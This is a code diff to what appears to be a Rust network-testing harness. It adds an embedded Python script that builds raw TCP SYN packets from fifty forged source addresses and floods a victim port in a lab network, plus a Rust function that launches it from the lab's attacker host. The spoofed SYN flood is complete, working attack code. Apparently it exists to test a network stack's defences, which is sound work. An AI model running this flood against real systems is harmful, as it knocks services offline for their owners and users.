@@ -122,3 +122,42 @@ pub fn fragment6(next: u8, id: u32, offset: u16, more: bool) -> Vec<u8> {
     let [o0, o1] = (offset | u16::from(more)).to_be_bytes();
     vec![next, 0, o0, o1, i0, i1, i2, i3]
 }
+
+/// SYNs from forged addresses to one port, as fast as it goes.
+const FLOOD: &str = r"
+import socket, struct, sys
+port, count = int(sys.argv[1]), int(sys.argv[2])
+def total(data):
+    if len(data) % 2: data += b'\0'
+    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
+    s = (s >> 16) + (s & 0xffff); s += s >> 16
+    return ~s & 0xffff
+packets = []
+to = socket.inet_aton('10.77.0.2')
+for n in range(50):
+    source = socket.inet_aton('198.51.100.%d' % (n + 1))
+    tcp = struct.pack('!HHIIBBHHH', 1024 + n, port, 7, 0, 0x50, 2, 1024, 0, 0)
+    pseudo = source + to + struct.pack('!BBH', 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack('!H', total(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, n, 0, 64, 6, 0, source, to)
+    packets.append(ip + tcp)
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+print('ready', flush=True)
+for n in range(count):
+    s.sendto(packets[n % 50], ('10.77.0.2', 0))
+";
+
+/// Sends so many SYNs from fifty addresses (198.51.100.1 to .50) to a port of the victim's; it has
+/// begun when this returns.
+pub fn flood(lab: &Lab, port: u16, count: u64) -> Child {
+    let mut child = lab
+        .attacker("python3")
+        .args(["-c", FLOOD, &port.to_string(), &count.to_string()])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
+    assert_eq!(line, "ready\n");
+    child
+}
